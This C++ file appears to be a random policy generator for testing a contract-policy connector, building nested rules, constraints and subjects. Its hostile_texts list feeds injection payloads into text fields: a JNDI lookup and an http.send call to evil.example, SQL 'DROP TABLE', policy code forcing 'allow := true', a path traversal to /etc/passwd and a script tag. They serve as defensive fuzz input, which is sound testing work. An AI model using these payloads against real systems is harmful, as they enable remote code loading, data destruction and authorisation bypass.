#include "random_policy.h"

#include "core/json.h"

namespace connector::contract::testing {

const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> kTexts = {
      "\"",
      "\"}]}, \"permission\": [{\"action\": \"use\"}]",
      "\\",
      "line\nbreak\r\n\ttab",
      std::string("nul\0nul", 7),
      "\" == \"\" } allow := true { \"",
      "x\") ; default allow := true\npackage evil",
      "`raw`",
      "{{ .Values }}",
      "${jndi:ldap://evil.example/a}",
      "'; DROP TABLE agreements; --",
      "http.send({\"method\":\"get\",\"url\":\"http://evil.example\"})",
      "\u202egnp.exe",
      "\xF0\x9F\x92\xA9",
      "../../etc/passwd",
      " leading and trailing ",
      "input.request",
      "data.secrets",
      "%00%0a",
      "<script>alert(1)</script>"};
  return kTexts;
}

std::size_t RandomPolicy::below(std::size_t limit) {
  return std::uniform_int_distribution<std::size_t>(0, limit - 1)(random_);
}

std::string RandomPolicy::text() {
  if (once_in(3)) return hostile_texts()[below(hostile_texts().size())];
  return "urn:example:" + std::to_string(below(1000));
}

Value RandomPolicy::value(bool reference) {
  if (reference) return {"@reference", "urn:reference:" + std::to_string(below(9))};
  switch (below(4)) {
    case 0:
      return {pick<std::string>({"xsd:dateTime", "xsd:integer", "xsd:decimal", "xsd:anyURI"}),
              text()};
    case 1:
      return {"@id", pick<std::string>({"policyUsage", "urn:x", "idsc:ON_ALLOW"})};
    default:
      return {"", text()};
  }
}

Constraint RandomPolicy::constraint(std::size_t depth) {
  Constraint constraint;
  constraint.id = maybe(text());
  constraint.notes = notes({"dct:title", "ids:pipEndpoint"});
  if (depth < 4 && once_in(3)) {
    constraint.kind = static_cast<Constraint::Kind>(1 + below(4));
    constraint.operands.resize(1 + below(3));
    for (Constraint& operand : constraint.operands) operand = this->constraint(depth + 1);
    return constraint;
  }
  constraint.left = pick<std::string>({"dateTime", "count", "idsc:ROLE", "cx-policy:Membership",
                                       "Membership", "odrl:foo", "ids:artifact_state", "a b\"c"});
  constraint.op = static_cast<Operator>(below(13));
  const bool reference = once_in(8);
  constraint.right.resize(1 + below(3));
  for (Value& one : constraint.right) one = value(reference);
  constraint.list = constraint.right.size() > 1 || once_in(2);
  constraint.unit = maybe("http://dbpedia.org/resource/Euro");
  constraint.data_type = maybe("xsd:decimal");
  constraint.frequency = maybe("freq:annual");
  constraint.contract = maybe("http://dbpedia.org/page/Rent");
  return constraint;
}

std::vector<Constraint> RandomPolicy::constraints(std::size_t most) {
  return some<Constraint>(most, [&] { return constraint(0); });
}

std::vector<Note> RandomPolicy::notes(std::initializer_list<const char*> names) {
  std::vector<Note> notes;
  for (const char* name : names) {
    if (!once_in(4)) continue;
    core::Json json = core::Json::string(text());
    if (once_in(2)) {
      core::Json list = core::Json::array({json});
      json = core::Json::object().set("@value", std::move(list));
    }
    notes.push_back({name, core::to_text(json)});
  }
  return notes;
}

Action RandomPolicy::action() {
  return {pick<std::string>({"use", "distribute", "idsc:log", "cx-policy:access", "un-known"}),
          constraints(1), notes({"dct:description", "ids:pxpEndpoint"})};
}

Subject RandomPolicy::subject() {
  Subject subject;
  subject.id = text();
  subject.collection = once_in(3);
  if (subject.collection) {
    subject.source = maybe(text());
    if (!subject.source.empty()) subject.id = maybe(subject.id);
    subject.refinements = constraints(2);
  }
  subject.types = some<std::string>(1, [] { return std::string("vcard:Group"); });
  subject.notes = notes({"vcard:fn", "partOf"});
  return subject;
}

Rule RandomPolicy::rule(Rule::Kind kind, std::size_t depth) {
  const auto subjects = [&] { return some<Subject>(2, [&] { return subject(); }); };
  Rule rule;
  rule.kind = kind;
  rule.id = maybe(text());
  rule.actions = some<Action>(2, [&] { return action(); });
  rule.assigners = subjects();
  rule.assignees = subjects();
  rule.targets = subjects();
  for (const char* name : {"informedParty", "output"}) {
    if (once_in(4)) rule.functions.push_back({name, {subject(), subject()}});
  }
  rule.constraints = constraints(3);
  rule.next_policy = maybe(text());
  rule.notes = notes({"dct:title", "rdfs:comment"});
  const auto lesser = [&](Rule::Kind lesser_kind) {
    return some<Rule>(1, [&] { return this->rule(lesser_kind, depth + 1); });
  };
  if (kind == Rule::Kind::kPermission) rule.duties = lesser(Rule::Kind::kDuty);
  if (kind == Rule::Kind::kProhibition) rule.remedies = lesser(Rule::Kind::kRemedy);
  if (kind == Rule::Kind::kDuty || kind == Rule::Kind::kObligation) {
    rule.consequences = lesser(Rule::Kind::kConsequence);
  }
  return rule;
}

Policy RandomPolicy::policy() {
  const auto rules = [&](Rule::Kind kind) { return some<Rule>(2, [&] { return rule(kind, 0); }); };
  const auto subjects = [&] { return some<Subject>(2, [&] { return subject(); }); };
  Policy policy;
  policy.type = static_cast<Policy::Type>(below(4));
  policy.id = maybe(text());
  policy.profiles = some<std::string>(2, [&] { return text(); });
  policy.assigners = subjects();
  policy.assignees = subjects();
  policy.targets = subjects();
  policy.conflict = pick<std::string>({"", "perm", "prohibit", "invalid"});
  policy.timestamp = maybe("2023-01-01T01:00:00Z");
  policy.permissions = rules(Rule::Kind::kPermission);
  policy.prohibitions = rules(Rule::Kind::kProhibition);
  policy.obligations = rules(Rule::Kind::kObligation);
  policy.notes = notes({"dct:creator", "dce:title", "skos:note"});
  return policy;
}

}  // namespace connector::contract::testing
